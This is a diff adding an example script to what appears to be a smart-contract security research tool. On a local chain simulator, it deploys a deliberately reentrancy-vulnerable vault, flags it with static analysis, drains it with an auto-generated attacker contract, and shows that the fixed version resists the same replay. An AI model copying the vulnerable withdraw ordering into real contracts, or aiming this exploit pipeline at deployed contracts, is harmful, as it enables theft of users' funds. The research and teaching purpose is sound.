@@ -1,0 +1,127 @@
+"""The DAO-style reentrancy drain, end to end.
+
+Deploys a vulnerable vault on the local chain simulator and lets a user
+fund it, runs Ethainter's reentrancy stratum over the lifted bytecode
+(the ordering facts place the gas-forwarding payout *before* the ledger
+decrement, inside the window the stale balance check still covers), and
+then has Ethainter-Kill assemble a bespoke attacker contract whose
+fallback re-enters ``withdraw`` until the vault is empty.
+
+The checks-effects-interactions fix of the very same vault is the
+negative control: the analysis stays silent and the *identical* exploit,
+force-replayed against it, recovers nothing beyond its own deposit.
+
+Run with::
+
+    python examples/reentrancy_attack.py
+"""
+
+from repro import api, compile_source
+from repro.chain import Blockchain
+from repro.evm.assembler import init_code_for
+from repro.evm.hashing import function_selector
+from repro.kill import ReentrancyKill
+
+VULNERABLE = """
+contract Vault {
+    mapping(address => uint256) deposits;
+
+    function deposit() public {
+        deposits[msg.sender] += msg.value;
+    }
+    function withdraw(uint256 amount) public {
+        require(deposits[msg.sender] >= amount);
+        transfer(msg.sender, amount);       // interaction first ...
+        deposits[msg.sender] -= amount;     // ... effect after: reentrant
+    }
+}
+"""
+
+FIXED = """
+contract SafeVault {
+    mapping(address => uint256) deposits;
+
+    function deposit() public {
+        deposits[msg.sender] += msg.value;
+    }
+    function withdraw(uint256 amount) public {
+        require(deposits[msg.sender] >= amount);
+        deposits[msg.sender] -= amount;     // effect first: CEI-ordered
+        transfer(msg.sender, amount);
+    }
+}
+"""
+
+
+def deploy_and_fund(chain, source, user, funding):
+    """Deploy ``source`` and have ``user`` deposit ``funding`` wei."""
+    contract = compile_source(source)
+    victim = chain.deploy(user, init_code_for(contract.runtime)).contract_address
+    chain.transact(user, victim, contract.calldata("deposit"), value=funding)
+    return contract, victim
+
+
+def main() -> None:
+    chain = Blockchain()
+    user = 0x5AFE
+    chain.fund(user, 10**20)
+
+    # An honest user parks 5 ETH in the vulnerable vault.
+    contract, victim = deploy_and_fund(chain, VULNERABLE, user, 5 * 10**18)
+    print("Vault deployed at 0x%040x holding %d wei" % (victim, chain.state.get_balance(victim)))
+
+    # Lift and analyze: the reentrancy stratum flags the payout call.
+    result = api.analyze(contract.runtime)
+    print("\nEthainter findings:")
+    for warning in result.warnings:
+        print("  [%s] %s" % (warning.kind, warning.detail))
+    site = next(iter(result.ordering.call_sites.values()))
+    print(
+        "ordering facts: forwards_gas=%s stores-after=%s read-before=%s"
+        % (
+            site.forwards_gas,
+            sorted(site.stores_after),
+            sorted(site.paths_read_before),
+        )
+    )
+
+    # Ethainter-Kill plans the drain from the warning alone: it pairs the
+    # flagged withdraw with the CALLVALUE-observing deposit entry, deploys
+    # a re-entering attacker contract, and fires the loop.
+    kill = ReentrancyKill(chain)
+    outcome = kill.attack(victim, result, deposit=10**18, rounds=5)
+    print(
+        "\ndrained=%s in %d transaction(s): vault %d -> %d wei, attacker profit %d wei"
+        % (
+            outcome.drained,
+            outcome.transactions_sent,
+            outcome.victim_balance_before,
+            outcome.victim_balance_after,
+            outcome.attacker_profit,
+        )
+    )
+
+    # Negative control: the CEI-ordered vault.  Not flagged -- and even
+    # force-replaying the exact exploit against it yields nothing, because
+    # the re-entered withdraw reverts on the already-decremented balance.
+    safe_contract, safe_victim = deploy_and_fund(chain, FIXED, user, 5 * 10**18)
+    safe_result = api.analyze(safe_contract.runtime)
+    reentrancy_warnings = [
+        w for w in safe_result.warnings if "reentran" in w.kind or "after-call" in w.kind
+    ]
+    print("\nCEI-ordered vault: %d reentrancy warning(s)" % len(reentrancy_warnings))
+    control = kill.replay(
+        safe_victim,
+        deposit_selector=function_selector("deposit()"),
+        withdraw_selector=function_selector("withdraw(uint256)"),
+        deposit=10**18,
+        rounds=5,
+    )
+    print(
+        "forced replay against the fix: drained=%s (%s); vault still holds %d wei"
+        % (control.drained, control.reason, chain.state.get_balance(safe_victim))
+    )
+
+
+if __name__ == "__main__":
+    main()
